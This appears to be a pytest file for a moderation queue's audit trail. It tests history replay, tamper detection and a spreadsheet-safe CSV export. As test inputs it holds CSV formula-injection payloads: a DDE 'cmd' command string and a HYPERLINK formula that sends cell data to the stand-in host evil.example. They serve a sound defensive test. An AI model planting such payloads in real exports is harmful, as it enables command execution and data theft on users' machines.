"""The audit trail rebuilds every item's history exactly: 500 scripted random actions (and a few
concurrent claims) over 40 items, refusals that leave no trace, a tampered event found by
`check_chain` and `vigie audit verify`, and the export as a user runs it."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from sqlalchemy import func, select, update

from collectors.types import RawPost
from config.settings import Settings
from models import actions
from models.audit import check_chain, iter_events, rebuild_history, verify_chains
from models.db import Database
from models.sla import SlaClock
from models.tables import AuditEvent, QueueItem
from models.users import add_user, set_active
from tests.kit import claim_at_once, seed_items
from vigie.cli_audit import audit

SEED = 20240501
STEPS = 500
FORMULA_ACTOR = "=cmd|' /C calc'!A0"
TEXTS = {  # the routing rules send each to one team (checked below)
    "customer_service": "@AureliaBank my card got declined again at shop number {i}, fix it",
    "legal": "@AureliaBank I am going to sue you, my lawyer has case file {i}",
    "marketing": "Loving the new Aurelia app design, screenshot {i} looks great",
}
USERS = [  # name, role, teams
    ("cs.ann", "agent", ["customer_service"]), ("cs.bob", "agent", ["customer_service"]),
    ("cs.lead", "lead", ["customer_service"]), ("legal.eve", "agent", ["legal"]),
    ("legal.lead", "lead", ["legal"]), ("mkt.max", "agent", ["marketing"]),
    ("mkt.lead", "lead", ["marketing", "customer_service"]), ("ops.olga", "operator", []),
    ("gone.gus", "agent", ["legal", "marketing"]),  # disabled below: cannot be assigned
]
ACTORS = [name for name, _, _ in USERS] + [FORMULA_ACTOR, "outsider", "  "]
REASONS = ["customer called back", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1 dup", "", None,
           "Réponse envoyée ✓"]


def _seed_items(db: Database, settings: Settings, per_team: int) -> list[int]:
    now = datetime.now(UTC)
    posts = [RawPost(f"{team}-{i}", "x", text.format(i=i), now - timedelta(minutes=i), None, f"@author{team}{i}",
                     f"Author {i}", 10 * i)
             for team, text in TEXTS.items() for i in range(per_team)]
    ids = seed_items(db, settings, posts)
    with db.read() as s:
        teams = dict(s.execute(select(QueueItem.team, func.count()).group_by(QueueItem.team)).all())
    assert teams == {team: per_team for team in TEXTS}, teams
    return ids


def _seed_users(db: Database, settings: Settings) -> int:
    with db.write.begin() as s:
        for name, role, teams in USERS:
            add_user(s, name, role, teams, None, settings.team_keys, actor="admin")
        set_active(s, "gone.gus", False, actor="admin")
    return len(USERS) + 1  # account events written


def _states(db: Database) -> dict[int, dict[str, Any]]:
    with db.read() as s:
        return {item.id: actions.snapshot(item) for item in s.scalars(select(QueueItem))}


def _event_count(db: Database) -> int:
    with db.read() as s:
        return int(s.scalar(select(func.count()).select_from(AuditEvent)) or 0)


def _script(rng: random.Random, item_ids: list[int], clock: SlaClock) -> tuple[str, int, Callable[..., Any]]:
    """One random action: (name, item id, a function of the session that does it)."""
    item_id = rng.choice(item_ids) if rng.random() > 0.02 else 999_999  # now and then, no such item
    actor = rng.choice(ACTORS)
    reason = rng.choice(REASONS)
    name = rng.choice(["claim", "claim", "release", "assign", "resolve", "dismiss", "reopen", "reopen",
                       "escalate", "reroute"])
    if name == "claim":
        return name, item_id, lambda s: actions.claim(s, item_id, actor)
    if name == "release":
        return name, item_id, lambda s: actions.release(s, item_id, actor)
    if name == "assign":
        assignee = rng.choice([n for n, _, _ in USERS] + ["nobody"])
        return name, item_id, lambda s: actions.assign(s, item_id, actor, assignee)
    if name == "resolve":
        return name, item_id, lambda s: actions.resolve(s, item_id, actor, reason)
    if name == "dismiss":
        return name, item_id, lambda s: actions.dismiss(s, item_id, actor, reason)
    if name == "reopen":
        return name, item_id, lambda s: actions.reopen(s, item_id, actor, reason or "", clock)
    if name == "escalate":
        return name, item_id, lambda s: actions.escalate(s, item_id, actor, reason or "")
    team = rng.choice([*TEXTS, "sales"])
    return name, item_id, lambda s: actions.reroute(s, item_id, actor, team, reason or "", clock)


def _concurrent_claims(db: Database, item_id: int) -> tuple[int, int]:
    """Two agents claim the same new item at once: (wins, refusals)."""
    outcomes = ["won" if o.startswith("won:") else o for o in claim_at_once(db, item_id, ["cs.ann", "cs.bob"])]
    assert outcomes.count("won") == 1, outcomes
    assert [o for o in outcomes if o != "won"][0].startswith(f"item {item_id} is already claimed by cs.")
    return 1, 1


def _run_cli(settings: Settings, *args: str) -> Any:
    result = CliRunner().invoke(audit, list(args), env={"DATABASE_URL": settings.database_url},
                                catch_exceptions=False)
    return result


def test_500_scripted_actions_rebuild_every_history_exactly(db: Database, settings: Settings) -> None:
    item_ids = _seed_items(db, settings, per_team=14)[:40]
    account_events = _seed_users(db, settings)
    clock = SlaClock.from_settings(settings)
    initial = _states(db)
    rng = random.Random(SEED)
    done: dict[str, int] = {}
    refused: dict[str, int] = {}
    successes = refusals = 0
    for step in range(STEPS):
        if step in (125, 250, 375):
            new = [i for i, state in _states(db).items() if state["status"] == "new" and i in item_ids]
            assert new, "the script left no new item to claim"
            wins, losses = _concurrent_claims(db, rng.choice(new))
            successes, refusals = successes + wins, refusals + losses
        name, item_id, act = _script(rng, item_ids, clock)
        states, events = _states(db), _event_count(db)
        try:
            with db.write.begin() as s:
                act(s)
        except actions.ActionError:
            refusals += 1
            refused[name] = refused.get(name, 0) + 1
            assert _states(db) == states, f"step {step}: refused {name} changed an item"
            assert _event_count(db) == events, f"step {step}: refused {name} left an audit event"
            continue
        successes += 1
        done[name] = done.get(name, 0) + 1
        after = _states(db)
        assert _event_count(db) == events + 1, f"step {step}: {name} wrote no audit event, or several"
        assert {i for i in after if after[i] != states[i]} <= {item_id}, f"step {step}: {name} changed other items"

    # The script exercised every action, both ways.
    assert set(done) == set(refused) == {"claim", "release", "assign", "resolve", "dismiss", "reopen", "escalate",
                                          "reroute"}, (done, refused)
    assert successes + refusals == STEPS + 6 and refusals > 50, (successes, refusals)

    current = _states(db)
    with db.read() as s:
        trail = list(iter_events(s, page=37))  # a page size that splits items' histories
        item_events = int(s.scalar(select(func.count()).select_from(AuditEvent)
                                   .where(AuditEvent.queue_item_id.is_not(None))) or 0)
    assert [e.id for e in trail] == sorted(e.id for e in trail)
    assert item_events == successes and len(trail) == successes + account_events

    # Replaying each item's events from its first state ends exactly where the item is now.
    for item_id in item_ids:
        state = initial[item_id]
        for event in (e for e in trail if e.queue_item_id == item_id):
            assert event.before == state, f"item {item_id}, event {event.id}: before is not the running state"
            state = event.after
        assert state == current[item_id], f"item {item_id}: the replay does not end at its current state"
    history = rebuild_history(trail)
    assert sum(len(h) for h in history.values()) == successes
    assert all(h[-1]["after"] == current[i] for i, h in history.items())

    with db.read() as s:
        assert all(check_chain(s, item_id, page=3) == [] for item_id in item_ids)
        checked = list(verify_chains(s, page=7))
    assert [i for i, _ in checked] == sorted(history) and not any(p for _, p in checked)
    result = _run_cli(settings, "verify")
    assert result.exit_code == 0, result.output
    assert f"audit trail whole: {len(history)} item(s)" in result.output

    # Tamper with one event in the middle of an item's history: the next event no longer follows it.
    victim = next(i for i, h in history.items() if len(h) >= 2)
    first = history[victim][0]
    with db.write.begin() as s:
        s.execute(update(AuditEvent).where(AuditEvent.id == first["id"])
                  .values(after={**first["after"], "assignee": "mallory"}))
    with db.read() as s:
        problems = check_chain(s, victim)
        assert [i for i, p in verify_chains(s) if p] == [victim]
    assert len(problems) == 1 and f"does not start where event {first['id']}" in problems[0], problems
    assert "'mallory'" in problems[0]
    result = _run_cli(settings, "verify")
    assert result.exit_code == 1
    assert f"item {victim}: event {history[victim][1]['id']}" in result.output

    # A change made around models.actions (no event) shows too: the item is not where its trail left it.
    other = next(i for i in history if i != victim)
    with db.write.begin() as s:
        s.execute(update(QueueItem).where(QueueItem.id == other).values(team="marketing", status="dismissed"))
    with db.read() as s:
        [moved] = check_chain(s, other)
    assert moved.startswith(f"item {other}: its current state is not where its last event")
    result = _run_cli(settings, "verify")
    assert result.exit_code == 1 and f"item {other}: its current state" in result.output


def test_cli_export_is_spreadsheet_safe_and_complete(db: Database, settings: Settings, tmp_path: Path) -> None:
    item_ids = _seed_items(db, settings, per_team=2)
    account_events = _seed_users(db, settings)
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    with db.write.begin() as s:
        actions.claim(s, item_ids[0], FORMULA_ACTOR)
    with db.write.begin() as s:
        actions.resolve(s, item_ids[0], FORMULA_ACTOR, hyperlink)
    with db.write.begin() as s:
        actions.escalate(s, item_ids[1], "cs.lead", "-2+3 Zoë ✓ 日本")
    with db.write.begin() as s:
        actions.assign(s, item_ids[1], "cs.lead", "cs.ann")
    total = account_events + 4

    out = tmp_path / "audit.csv"
    result = _run_cli(settings, "export", "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert f"{total} event(s) written to {out}" in result.output
    assert not (tmp_path / "audit.csv.part").exists()
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["id", "at", "actor", "action", "item", "reason", "before", "after", "changed", "subject"]
    assert len(rows) == total + 1
    by_action = {row[3]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_action["claim"]["actor"] == "'" + FORMULA_ACTOR
    assert by_action["resolve"]["reason"] == "'" + hyperlink
    assert by_action["escalate"]["reason"] == "'-2+3 Zoë ✓ 日本"
    assert by_action["claim"]["at"].endswith("Z") and by_action["claim"]["item"] == str(item_ids[0])
    assert json.loads(by_action["claim"]["after"])["assignee"] == FORMULA_ACTOR
    assert by_action["assign"]["changed"].startswith("status: new → claimed; assignee: (none) → cs.ann")
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)

    result = _run_cli(settings, "export", "--format", "jsonl")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.output.splitlines()]
    assert len(lines) == total == _event_count(db)
    assert lines[-1]["action"] == "assign" and lines[-1]["after"]["assignee"] == "cs.ann"
    assert [line["actor"] for line in lines if line["item"] == item_ids[0]] == [FORMULA_ACTOR] * 2  # not altered

    def export_ids(*args: str) -> list[str]:
        result = _run_cli(settings, "export", "--format", "jsonl", *args)
        assert result.exit_code == 0, result.output
        return [json.loads(line)["action"] for line in result.output.splitlines()]

    assert export_ids("--item", str(item_ids[1])) == ["escalate", "assign"]
    assert export_ids("--actor", FORMULA_ACTOR) == ["claim", "resolve"]
    today = datetime.now(UTC).date()
    assert len(export_ids("--since", today.isoformat(), "--until", today.isoformat())) == total
    assert export_ids("--until", (today - timedelta(days=1)).isoformat()) == []
    assert export_ids("--since", (datetime.now(UTC) + timedelta(hours=1)).isoformat()) == []
    bad = CliRunner().invoke(audit, ["export", "--since", "yesterday"], env={"DATABASE_URL": settings.database_url})
    assert bad.exit_code == 2 and "expected an ISO date" in bad.output
    csv_out = _run_cli(settings, "export", "--actor", FORMULA_ACTOR).output
    assert list(csv.reader(io.StringIO(csv_out)))[1][2] == "'" + FORMULA_ACTOR
